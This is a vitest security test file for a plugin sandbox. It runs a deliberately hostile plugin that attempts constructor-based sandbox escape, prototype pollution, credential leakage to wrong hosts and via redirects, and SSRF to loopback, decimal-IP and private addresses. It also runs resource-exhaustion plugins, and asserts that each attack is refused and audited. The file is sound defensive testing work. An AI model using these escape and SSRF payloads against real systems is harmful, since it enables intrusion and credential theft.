import { randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestHub, type TestHub } from '../../../test/hub.ts';
import { testDatabaseKinds } from '../../../test/databases.ts';
import { bearer, signUpUser, type SignedUpUser } from '../../../test/users.ts';
import { createOutboundClient } from '../../platform/http/outbound/index.ts';
import { createLogger } from '../../platform/logger.ts';
import { createPluginsModule, type PluginsModule } from './index.ts';
import { validatePackage } from './plugins.package.ts';
import { decisionsOf, manifest, modulesOf } from './test/fixtures.ts';

/**
 * Hostile plugins: every attack is contained (the isolate is stopped or the call refused),
 * audited as policy.Decision, and the hub keeps serving meanwhile. A canary secret must
 * never appear in plugin output, logs, events, or a request to a host its type does not allow.
 */
const canary = `tw-canary-${randomBytes(16).toString('hex')}`;
const otherCanary = `gen-canary-${randomBytes(16).toString('hex')}`;
const accountSid = `AC${randomBytes(16).toString('hex')}`;

interface Seen {
  host: string;
  url: string;
  headers: IncomingMessage['headers'];
}
async function listen(handler: (req: IncomingMessage, res: ServerResponse, seen: Seen[]) => void) {
  const seen: Seen[] = [];
  const server: Server = createServer((req, res) => {
    seen.push({ host: String(req.headers.host), url: req.url ?? '', headers: req.headers });
    handler(req, res, seen);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

const attacker = `
module.exports = {
  async run(input, ctx) {
    const f = (url, init) => ctx.http.fetch(url, init).then((r) => ({ ok: true, status: r.status, body: r.body }), (e) => ({ ok: false, code: e.code, message: e.message }));
    const twilio = ctx.config.credentials.twilio;
    const P = input.port, V = input.victimPort;
    switch (input.mode) {
      case 'escape': {
        const g = (function () { return this; })() || globalThis;
        let viaCtor = 'blocked';
        try { viaCtor = ctx.http.fetch.constructor('return typeof process + typeof require + typeof __mo_host')(); } catch (e) { viaCtor = 'threw'; }
        let viaError = 'none';
        try { null.x; } catch (e) { viaError = e.constructor.constructor('return typeof process')(); }
        return { process: typeof process, require: typeof require, fetch: typeof fetch, host: typeof __mo_host, invoke: typeof __mo_invoke,
          globals: Object.getOwnPropertyNames(g).filter((k) => /^(process|require|ivm|Reference|ExternalCopy|Isolate|Context|__mo_\\w*)$/.test(k)), viaCtor, viaError,
          ctxKeys: Object.keys(ctx), fetchSrc: String(ctx.http.fetch).length < 200 };
      }
      case 'pollute':
        return [JSON.parse('{"__proto__": {"polluted": "yes"}}'), { constructor: { prototype: { polluted: 'yes' } } }];
      case 'readSecret':
        return { ctx: JSON.stringify(ctx), config: ctx.config };
      case 'echo': return f('http://api.twilio.com:' + P + '/echo', { credential: { handle: twilio.handle } });
      case 'wrongHost': return f('http://enrich.example.com:' + P + '/echo', { credential: { handle: twilio.handle } });
      case 'wrongMethod': return f('http://api.twilio.com:' + P + '/echo', { credential: { handle: twilio.handle, as: 'query' } });
      case 'redirectCred': return f('http://api.twilio.com:' + P + '/redirect-other', { credential: { handle: twilio.handle } });
      case 'unlisted': return f('http://unlisted.example.org/');
      case 'loopback': return [await f('http://127.0.0.1:' + V + '/'), await f('http://localhost:' + V + '/'), await f('http://[::1]:' + V + '/'), await f('http://2130706433:' + V + '/')];
      case 'dnsPrivate': return f('http://internal.example.com/');
      case 'dnsLoopback': return f('http://sneaky.example.com:' + V + '/');
      case 'redirectLoopback': return [await f('http://enrich.example.com:' + P + '/redirect-loopback'), await f('http://enrich.example.com:' + P + '/redirect-internal')];
      case 'big': return f('http://enrich.example.com:' + P + '/big');
      case 'foreignHandle': return f('http://api.twilio.com:' + P + '/echo', { credential: { handle: input.handle } });
      case 'othersData': return ctx.entities.get(input.id).then(() => 'read it', (e) => e.code);
      case 'undeclared': return Promise.all([
        ctx.entities.query({ type: 'person' }).then(() => 'read', (e) => e.code),
        ctx.events.emit('anything', {}).then(() => 'emitted', (e) => e.code),
        ctx.storage.set('k', 1).then(() => 'stored', (e) => e.code),
        ctx.notify({ title: 'x' }).then(() => 'notified', (e) => e.code),
      ]);
    }
  },
};`;

const hog = (body: string) => `module.exports = { async run(input, ctx) { ${body} } };`;

describe.each(testDatabaseKinds())('hostile plugins on %s', (kind) => {
  let hub: TestHub;
  let alice: SignedUpUser;
  let bob: SignedUpUser;
  let plugins: PluginsModule;
  let api: Awaited<ReturnType<typeof listen>>;
  let victim: Awaited<ReturnType<typeof listen>>;
  const logs: string[] = [];
  let twilioId: string;
  let otherHandle: string;

  beforeAll(async () => {
    hub = await createTestHub(kind);
    alice = await signUpUser(hub);
    bob = await signUpUser(hub);
    victim = await listen((_req, res) => res.end('you reached the victim'));
    api = await listen((req, res) => {
      const url = req.url ?? '';
      if (url.startsWith('/echo')) {
        res.setHeader('x-echo-auth', String(req.headers.authorization ?? ''));
        return res.end(JSON.stringify({ headers: req.headers, url }));
      }
      if (url === '/redirect-other')
        return res.writeHead(302, { location: `http://other.example.com:${api.port}/echo` }).end();
      if (url === '/redirect-loopback')
        return res.writeHead(302, { location: `http://127.0.0.1:${victim.port}/` }).end();
      if (url === '/redirect-internal') return res.writeHead(302, { location: 'http://internal.example.com/' }).end();
      if (url === '/big') return res.end('x'.repeat(3 * 1024 * 1024));
      res.writeHead(404).end();
    });
    const { graph, wallet, policy } = modulesOf(hub);
    const dns: Record<string, string> = {
      'api.twilio.com': '127.0.0.1',
      'enrich.example.com': '127.0.0.1',
      'other.example.com': '127.0.0.1',
      'sneaky.example.com': '127.0.0.1',
      'internal.example.com': '10.0.0.5',
    };
    const sink = new Writable({
      write(chunk, _e, done) {
        logs.push(String(chunk));
        done();
      },
    });
    plugins = createPluginsModule({
      db: hub.db,
      logger: createLogger('trace', sink),
      outbox: (hub as unknown as { outbox?: never }).outbox ?? (await import('../events/index.ts')).createEventOutbox(),
      policy: policy.service,
      wallet: wallet.service,
      graph: graph.service,
      http: {
        client: createOutboundClient({
          lookup: async (host) =>
            dns[host] ? [{ address: dns[host]!, family: 4 }] : Promise.reject(new Error('ENOTFOUND')),
          // Only the stand-in API's port on loopback; the victim's port stays private.
          allowPrivate: ({ address, port }) => address === '127.0.0.1' && port === api.port,
        }),
        credentialsOverHttp: true,
        timeoutMs: 3000,
      },
    });

    const created = await hub.app.inject({
      method: 'POST',
      url: '/api/v1/credentials',
      headers: bearer(alice),
      payload: { type: 'twilio', name: 'T', secret: { accountSid, authToken: canary } },
    });
    twilioId = created.json().id;
    const generic = await hub.app.inject({
      method: 'POST',
      url: '/api/v1/credentials',
      headers: bearer(alice),
      payload: {
        type: 'generic',
        name: 'G',
        secret: { headers: { 'x-api-key': otherCanary }, allowedHosts: ['api.twilio.com'] },
      },
    });
    const s = plugins.service;
    const m = manifest(
      'attacker',
      [
        'credentials:twilio',
        ...[
          'api.twilio.com',
          'enrich.example.com',
          'other.example.com',
          'internal.example.com',
          'sneaky.example.com',
        ].map((h) => `http:fetch:${h}`),
        'entities:read:note',
      ],
      {
        credentials: [{ name: 'twilio', type: 'twilio' }],
      },
    );
    await s.install(alice, validatePackage(m, attacker));
    await s.consent(alice, 'attacker', { permissions: m.permissions, credentials: { twilio: twilioId } });
    // Another plugin of alice's holds the generic credential.
    const other = manifest('holder', ['credentials:generic', 'http:fetch:api.twilio.com'], {
      credentials: [{ name: 'key', type: 'generic' }],
    });
    await s.install(alice, validatePackage(other, hog('return ctx.config.credentials.key.handle;')));
    await s.consent(alice, 'holder', { permissions: other.permissions, credentials: { key: generic.json().id } });
    otherHandle = (await s.run(alice.id, 'holder', 'manual', null, null)).result as string;
  });
  afterAll(async () => {
    await plugins?.stop?.();
    await hub?.close();
    await api?.close();
    await victim?.close();
  });

  const attack = async (mode: string, extra: Record<string, unknown> = {}) => {
    const run = await plugins.service.run(
      alice.id,
      'attacker',
      'manual',
      { mode, port: api.port, victimPort: victim.port, ...extra },
      null,
    );
    expect(run.outcome, run.error ?? '').toBe('ok');
    return run.result as any;
  };

  it('gives plugin code no process, require, host Reference or global escape', async () => {
    const r = await attack('escape');
    expect(r).toMatchObject({
      process: 'undefined',
      require: 'undefined',
      fetch: 'undefined',
      host: 'undefined',
      invoke: 'undefined',
      globals: [],
    });
    expect(r.viaCtor).toBe('undefinedundefinedundefined');
    expect(r.viaError).toBe('undefined');
    expect(r.ctxKeys).toEqual(['plugin', 'config', 'entities', 'events', 'http', 'storage', 'log', 'notify']);
  });

  it('returns only copied JSON: prototype pollution through returned objects does not reach the host', async () => {
    const r = await attack('pollute');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(Object.getPrototypeOf(r[0])).toBe(Object.prototype);
  });

  it("never shows a credential's secret to the plugin: opaque handles, scrubbed echoes", async () => {
    const r = await attack('readSecret');
    expect(JSON.stringify(r)).not.toContain(canary);
    expect(r.config.credentials.twilio).toMatchObject({ type: 'twilio', public: { accountSid } });
    expect(r.config.credentials.twilio.handle).toMatch(/^cred_[0-9a-f]{24}$/);
    const echo = await attack('echo');
    expect(echo.ok).toBe(true);
    // The real Twilio host got the credential (that is its job); the plugin did not.
    expect(
      api.seen.some((s) => s.host.startsWith('api.twilio.com') && String(s.headers.authorization).startsWith('Basic ')),
    ).toBe(true);
    expect(JSON.stringify(echo)).not.toContain(canary);
    expect(JSON.stringify(echo)).not.toContain(Buffer.from(`${accountSid}:${canary}`).toString('base64'));
  });

  it("refuses to send a credential to a host its type does not allow, also via redirects, and other plugins' handles", async () => {
    for (const mode of ['wrongHost', 'redirectCred', 'wrongMethod']) {
      const r = await attack(mode);
      expect(r, mode).toMatchObject({ ok: false, code: 'permission_denied' });
    }
    expect(await attack('foreignHandle', { handle: otherHandle })).toMatchObject({
      ok: false,
      code: 'permission_denied',
    });
    const leaked = api.seen.filter(
      (s) =>
        !s.host.startsWith('api.twilio.com') &&
        JSON.stringify(s.headers).includes(Buffer.from(`${accountSid}:${canary}`).toString('base64')),
    );
    expect(leaked).toEqual([]);
    expect(api.seen.some((s) => JSON.stringify(s.headers).includes(otherCanary))).toBe(false);
    const decisions = await decisionsOf(hub, alice.id, 'attacker');
    expect(decisions).toContainEqual(
      expect.objectContaining({
        permission: 'credentials:twilio',
        allowed: false,
        reason: 'credential_host_not_allowed',
      }),
    );
    expect(decisions).toContainEqual(
      expect.objectContaining({ permission: 'credentials:unknown', allowed: false, reason: 'unknown_handle' }),
    );
  });

  it('refuses unlisted hosts, loopback and private addresses (literal, DNS, redirects) and oversized responses', async () => {
    expect(await attack('unlisted')).toMatchObject({ ok: false, code: 'permission_denied' });
    for (const r of await attack('loopback')) expect(r).toMatchObject({ ok: false, code: 'permission_denied' });
    expect(await attack('dnsPrivate')).toMatchObject({ ok: false, code: 'private_address' });
    expect(await attack('dnsLoopback')).toMatchObject({ ok: false, code: 'private_address' });
    const [toLoopback, toInternal] = await attack('redirectLoopback');
    expect(toLoopback).toMatchObject({ ok: false, code: 'permission_denied' });
    expect(toInternal).toMatchObject({ ok: false, code: 'private_address' });
    expect(await attack('big')).toMatchObject({ ok: false, code: 'response_too_large' });
    expect(victim.seen).toEqual([]);
    const decisions = await decisionsOf(hub, alice.id, 'attacker');
    expect(decisions).toContainEqual(
      expect.objectContaining({
        permission: 'http:fetch:unlisted.example.org',
        allowed: false,
        reason: 'not_declared',
      }),
    );
    expect(decisions).toContainEqual(
      expect.objectContaining({
        permission: 'http:fetch:internal.example.com',
        allowed: false,
        reason: 'private_address',
      }),
    );
    expect(decisions).toContainEqual(expect.objectContaining({ permission: 'http:fetch:127.0.0.1', allowed: false }));
  });

  it("refuses undeclared permissions and other users' data", async () => {
    const note = await hub.app.inject({
      method: 'POST',
      url: '/api/v1/entities',
      headers: bearer(bob),
      payload: { type: 'note', title: "bob's secret note" },
    });
    expect(note.statusCode).toBe(201);
    expect(await attack('othersData', { id: note.json().id })).toBe('not_found');
    expect(await attack('undeclared')).toEqual([
      'permission_denied',
      'permission_denied',
      'permission_denied',
      'permission_denied',
    ]);
  });

  it('stops infinite loops, allocation bombs, deep recursion, hangs and huge outputs, and keeps serving meanwhile', async () => {
    const s = plugins.service;
    const limits = { memoryMb: 16, timeoutMs: 300 };
    const cases: [string, string, string[]][] = [
      ['loop', 'while (true) {}', ['timeout']],
      ['async-loop', "await ctx.log.info('then spin'); while (true) {}", ['timeout']],
      ['alloc-bomb', 'const a = []; while (true) a.push(new Array(1e6).fill(a.length));', ['memory', 'timeout']],
      ['recursion', 'function f(n) { return f(n + 1) + 1; } return f(0);', ['error', 'timeout']],
      ['hang', 'await new Promise(() => {});', ['timeout']],
      ['huge-output', "return 'x'.repeat(5e6);", ['error', 'memory', 'timeout']],
      [
        'call-flood',
        'for (let i = 0; i < 2000; i++) { try { await ctx.entities.get("not-an-id"); } catch (e) { if (e.code === "limit") return "limited"; } } return "unlimited";',
        ['ok'],
      ],
    ];
    for (const [id, body] of cases) {
      await s.install(
        alice,
        validatePackage(
          manifest(`hog-${id}`, [], { limits: id === 'call-flood' ? { memoryMb: 16, timeoutMs: 10_000 } : limits }),
          hog(body),
        ),
      );
    }
    // While the loop burns its CPU budget in its isolate, the hub answers other requests.
    const looping = s.run(alice.id, 'hog-loop', 'manual', null, null);
    const t0 = performance.now();
    const health = await hub.app.inject({ method: 'GET', url: '/api/v1/credentials', headers: bearer(alice) });
    const servedMs = performance.now() - t0;
    expect(health.statusCode).toBe(200);
    expect((await looping).outcome).toBe('timeout');
    expect(servedMs).toBeLessThan(250);
    // The same with several runs of it at once (they spread over a few isolates): each is
    // stopped at its own limit and the hub still answers.
    const loops = Array.from({ length: 6 }, () => s.run(alice.id, 'hog-loop', 'manual', null, null));
    const t1 = performance.now();
    const again = await hub.app.inject({ method: 'GET', url: '/api/v1/credentials', headers: bearer(alice) });
    const servedAgainMs = performance.now() - t1;
    expect(again.statusCode).toBe(200);
    expect((await Promise.all(loops)).map((r) => r.outcome)).toEqual(Array(6).fill('timeout'));
    expect(servedAgainMs).toBeLessThan(250);

    for (const [id, , outcomes] of cases) {
      const run = await s.run(alice.id, `hog-${id}`, 'manual', null, null);
      expect(outcomes, `${id}: ${run.outcome} ${run.error}`).toContain(run.outcome);
      if (id === 'call-flood') expect(run.result).toBe('limited');
    }
    // A stopped isolate is replaced on the next run: the plugin is contained, not bricked.
    await s.upgrade(
      alice,
      'hog-loop',
      validatePackage(manifest('hog-loop', [], { limits, version: '1.0.1' }), hog('return "recovered";')),
    );
    expect((await s.run(alice.id, 'hog-loop', 'manual', null, null)).result).toBe('recovered');
    const runs = await s.runs(alice, 'hog-alloc-bomb', 5);
    expect(runs[0]?.outcome).toMatch(/memory|timeout/);
  });

  it('leaks no canary into logs or events', async () => {
    const events = await hub.db.asSystem(
      async (tx) => (await tx.query(`SELECT type, data FROM made_open.outbox`)).rows,
    );
    const everything = JSON.stringify(events) + logs.join('');
    expect(everything).not.toContain(canary);
    expect(everything).not.toContain(otherCanary);
    expect(logs.join('')).toContain('plugin run did not succeed');
  });
});
